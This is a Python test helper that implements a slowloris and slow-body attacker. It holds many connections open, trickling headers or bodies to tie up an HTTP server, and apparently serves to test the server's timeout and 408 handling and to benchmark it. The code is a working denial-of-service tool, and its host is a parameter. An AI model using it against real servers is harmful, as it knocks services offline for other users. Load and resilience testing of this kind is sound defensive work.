"""A slowloris / slow-body attacker on 127.0.0.1 (Python standard library, one thread, one
selector), used by test_network.py and by scripts/bench's attack row.

`headers` connections trickle a request head one header line per `interval` seconds and
never finish it; `bodies` connections send a complete head announcing a large body and
trickle the body one byte per `interval`.  A connection the server cuts (a 408, or closed)
is replaced by a new one until the attack stops, so the pressure stays at the counts asked.
Counts of what happened are kept for the report."""
import errno
import selectors
import socket
import threading
import time


class Attack:
    def __init__(self, host, port, headers=0, bodies=0, interval=1.0, body_path="/healthz",
                 connect_batch=250):
        self.host, self.port = host, port
        self.want = {"head": headers, "body": bodies}
        self.interval = interval
        self.body_path = body_path
        self.connect_batch = connect_batch
        self.sel = selectors.DefaultSelector()
        self.live = {"head": 0, "body": 0}
        self.stats = {"opened": 0, "cut": 0, "answered_408": 0, "connect_errors": 0,
                      "peak_head": 0, "peak_body": 0}
        self._stop = threading.Event()
        self._thread = None

    # ------------------------------------------------------------------ sockets
    def _open(self, kind):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((self.host, self.port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            self.stats["connect_errors"] += 1
            return False
        st = {"kind": kind, "sent": 0, "connected": False, "next": time.monotonic()}
        self.sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, st)
        self.live[kind] += 1
        self.stats["opened"] += 1
        return True

    def _close(self, s, st, cut):
        try:
            self.sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
        self.live[st["kind"]] -= 1
        if cut:
            self.stats["cut"] += 1

    def _first(self, st):
        if st["kind"] == "head":
            return b"GET /healthz HTTP/1.1\r\nHost: attack\r\nUser-Agent: slowloris\r\n"
        return (b"POST %s HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\n"
                b"Content-Length: 1000000\r\n\r\n[" % self.body_path.encode())

    def _more(self, st):
        return b"X-Trickle-%d: a\r\n" % st["sent"] if st["kind"] == "head" else b"1"

    def _send(self, s, st, data):
        try:
            s.send(data)
            st["sent"] += 1
            st["next"] = time.monotonic() + self.interval
            return True
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            self._close(s, st, True)
            return False

    # ------------------------------------------------------------------ loop
    def _run(self):
        last_tick = 0.0
        while not self._stop.is_set():
            # keep the counts up (in batches, so connects do not all land at once)
            for kind in ("head", "body"):
                missing = self.want[kind] - self.live[kind]
                for _ in range(min(missing, self.connect_batch)):
                    self._open(kind)
            self.stats["peak_head"] = max(self.stats["peak_head"], self.live["head"])
            self.stats["peak_body"] = max(self.stats["peak_body"], self.live["body"])
            for key, ev in self.sel.select(timeout=0.05):
                s, st = key.fileobj, key.data
                if ev & selectors.EVENT_WRITE and not st["connected"]:
                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        self.stats["connect_errors"] += 1
                        self._close(s, st, False)
                        continue
                    st["connected"] = True
                    self.sel.modify(s, selectors.EVENT_READ, st)
                    self._send(s, st, self._first(st))
                    continue
                if ev & selectors.EVENT_READ:
                    try:
                        d = s.recv(4096)
                    except (BlockingIOError, InterruptedError):
                        continue
                    except OSError:
                        d = b""
                    if d.startswith(b"HTTP/1.1 408"):
                        self.stats["answered_408"] += 1
                    self._close(s, st, True)
            now = time.monotonic()
            if now - last_tick >= min(0.2, self.interval / 2):
                last_tick = now
                for key in list(self.sel.get_map().values()):
                    st = key.data
                    if st["connected"] and now >= st["next"]:
                        self._send(key.fileobj, st, self._more(st))
        for key in list(self.sel.get_map().values()):
            self._close(key.fileobj, key.data, False)

    def start(self):
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def wait_full(self, timeout=60.0):
        """Until every connection asked for is open (a safety net of `timeout`)."""
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            if (self.live["head"] >= self.want["head"] and self.live["body"] >= self.want["body"]):
                return True
            time.sleep(0.05)
        return False

    def stop(self):
        self._stop.set()
        if self._thread:
            self._thread.join()
